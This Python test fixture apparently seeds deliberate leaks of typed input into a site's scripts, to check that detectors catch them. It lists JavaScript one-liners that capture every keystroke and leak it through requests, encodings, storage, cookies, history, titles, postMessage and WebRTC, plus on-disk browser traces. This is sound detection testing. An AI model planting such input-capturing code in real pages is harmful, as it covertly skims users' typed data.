"""Leaks that are planted on purpose: each is one line in a script of the site, and is to be seen by the detector named beside it."""

from __future__ import annotations

from dataclasses import dataclass

from served import unhashed


@dataclass(frozen=True)
class Seed:
    """A leak: its name, who has to see it, and what is done with what was `typed`."""

    name: str
    seen_by: str
    script: str
    framed: bool = False


SEEDS = [
    Seed("an address that is asked for", "server log", "fetch('/?leak=' + encodeURIComponent(typed))"),
    Seed("a body that is sent", "server log", "fetch('/', { method: 'POST', body: typed }).catch(() => {})"),
    Seed("a header that is sent", "server log", "fetch('/', { headers: { 'X-Found': typed } })"),
    Seed("a beacon", "server log", "navigator.sendBeacon('/', typed)"),
    Seed("the address of a picture", "server log", "new Image().src = '/leak/' + typed + '.png'"),
    Seed("a page that is fetched before it is needed", "server log", "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: '/leak/' + typed }))"),
    Seed("the address of a script", "requests", "import('/leak/' + typed + '.js').catch(() => {})"),
    Seed("in base64", "server log", "fetch('/leak/' + btoa(typed))"),
    Seed("in hex", "server log", "fetch('/leak/' + [...typed].map((one) => one.charCodeAt(0).toString(16)).join(''))"),
    Seed("backwards", "server log", "fetch('/leak/' + [...typed].reverse().join(''))"),
    Seed("in UTF-16", "server log", "fetch('/', { method: 'POST', body: new Uint16Array([...typed].map((one) => one.charCodeAt(0))) }).catch(() => {})"),
    Seed("a picture of another site, which the policy refuses", "console", "new Image().src = 'http://127.0.0.2:9/' + typed"),
    Seed("the state of the history", "history", "history.replaceState({ typed }, '')"),
    Seed("a mark that says something", "history", "history.replaceState({ ceMark: typed }, '')"),
    Seed("a new address", "address", "history.pushState(null, '', '?' + typed)"),
    Seed("an address for a moment", "address", "const was = location.href; history.replaceState(null, '', '#' + typed); history.replaceState(null, '', was)"),
    Seed("what follows the hash", "address", "location.hash = typed"),
    Seed("local storage", "local storage", "localStorage.setItem('x', typed)"),
    Seed("session storage", "session storage", "sessionStorage.setItem('x', typed)"),
    Seed("a cookie", "cookies", "document.cookie = 'x=' + encodeURIComponent(typed)"),
    Seed("IndexedDB", "IndexedDB", "indexedDB.open(typed)"),
    Seed("Cache storage", "Cache storage", "caches.open('x').then((one) => one.put('/x', new Response(typed)))"),
    Seed("a cache that looks like ours", "Cache storage", "caches.open('ce-runtime-x').then((one) => one.put('/runtime/x/started', new Response(typed)))"),
    Seed("private files", "private files", "navigator.storage.getDirectory().then((one) => one.getFileHandle('x', { create: true })).then((one) => one.createWritable()).then(async (one) => { await one.write(typed); await one.close() })"),
    Seed("the console", "console", "console.log(typed)"),
    Seed("an error", "console", "setTimeout(() => { throw new Error(typed) })"),
    Seed("the title", "title", "document.title = 'Due from ' + typed"),
    Seed("the title for a moment", "title", "const was = document.title; document.title = typed; setTimeout(() => (document.title = was))"),
    Seed("the title while it is printed", "paper", "const was = document.title; addEventListener('beforeprint', () => (document.title = typed)); addEventListener('afterprint', () => (document.title = was))"),
    Seed("the name of the window", "window name", "window.name = typed"),
    Seed("a channel of the site's pages", "channels", "new BroadcastChannel('x').postMessage({ typed })"),
    Seed("the page around a frame", "page around", "parent.postMessage({ typed }, '*')", framed=True),
    Seed("a height that is none", "page around", "parent.postMessage({ type: 'ce-guidance-height', height: typed }, '*')", framed=True),
    Seed("a call to find one's own address", "packets", "const one = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:PORT' }] }); one.createDataChannel('x'); one.createOffer().then((offer) => one.setLocalDescription(offer))"),
    Seed("the name of a file", "file names", "const link = document.createElement('a'); link.href = URL.createObjectURL(new Blob(['x'])); link.download = typed + '.ics'; link.click()"),
]  # fmt: skip

REPRESENTATIVES = (
    "an address that is asked for", "in base64", "the state of the history", "local storage", "the title for a moment",
    "a channel of the site's pages",
)  # fmt: skip
"""Those that stand for the others in the quick test."""

#: What is planted into a browser's own folder, each with another word, and in which of its files it has to be found.
ON_DISK = {
    "a field that the browser may remember": (
        r"Sessions/|Web Data",
        "const other = document.createElement('textarea'); other.name = 'other'; other.value = typed; document.createElement('form').append(other); document.body.append(other.form)",
    ),
    "an address in the history": (r"History", "history.pushState(null, '', '#' + typed)"),
    "local storage": (r"Local Storage/", "localStorage.setItem('x', typed)"),
    "Cache storage": (r"CacheStorage|Cache Storage|Service Worker", "caches.open('x').then((one) => one.put('/x', new Response(typed)))"),
    "IndexedDB": (r"IndexedDB/", "indexedDB.open(typed)"),
    "private files": (r"File System/", "navigator.storage.getDirectory().then((one) => one.getFileHandle(typed, { create: true }))"),
}  # fmt: skip


def planted(seed: Seed, port: int):
    """As ``Served.break_it``: the first script of a page and of a frame with that leak in it."""
    return planted_script(f"const {{ value: typed }} = event.target; {seed.script.replace('PORT', str(port))}")


def planted_script(does: str):
    """The first script of a page and of a frame, which does this with every `event` of typing."""
    line = f"\ndocument.addEventListener('input', (event) => {{ {does} }}, true);\n".encode()
    scripts = "site/site.js", "site/embed.js"

    def sent(path: str, body: list[bytes]) -> list[bytes]:
        return [b"".join(body) + line] if path.endswith(scripts) else unhashed(path, body, *scripts)

    return sent
